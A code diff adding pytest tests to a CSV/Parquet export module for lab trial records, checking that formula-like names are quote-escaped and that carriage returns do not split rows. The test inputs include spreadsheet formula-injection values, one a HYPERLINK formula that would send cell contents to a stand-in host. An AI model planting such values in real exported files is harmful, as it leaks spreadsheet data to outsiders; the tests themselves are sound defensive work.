@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -42,6 +44,26 @@ def test_round_trip(trials: list[Trial], tmp_path: Path, ending: str) -> None:
         assert row.resistance_ohm_cm2 == value if value is not None else np.isnan(
             row.resistance_ohm_cm2)
         _same_arrays(trial, read)
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.test?"&A1)', "+1", "-2+3", "@SUM(A1)",
+                                  "\t=1+1"])
+def test_no_spreadsheet_runs_a_name(trials: list[Trial], tmp_path: Path, name: str) -> None:
+    bad = replace(trials[0], stack=replace(trials[0].stack, stack_id=name, lot=name,
+                                           operator=name))
+    export([bad, trials[1]], tmp_path)
+    text = (tmp_path / "trials.csv").read_bytes().decode()
+    row = next(csv.DictReader(io.StringIO(text, newline="")))
+    assert row["stack"] == row["lot"] == row["operator"] == "'" + name
+    assert float(row["pressure_mpa"]) == bad.recipe.pressure_mpa
+    table = pd.read_parquet(tmp_path / "trials.parquet")
+    assert table["stack"].tolist() == [name, trials[1].stack.stack_id]
+
+
+def test_a_carriage_return_in_a_name_ends_no_row(trials: list[Trial], tmp_path: Path) -> None:
+    odd = replace(trials[0], stack=replace(trials[0].stack, stack_id="a\rb", lot="c"))
+    export([odd], tmp_path)
+    assert pd.read_csv(tmp_path / "trials.csv")["stack"].tolist() == ["a b"]
 
 
 def _same_arrays(trial: Trial, read: dict[str, Any]) -> None:
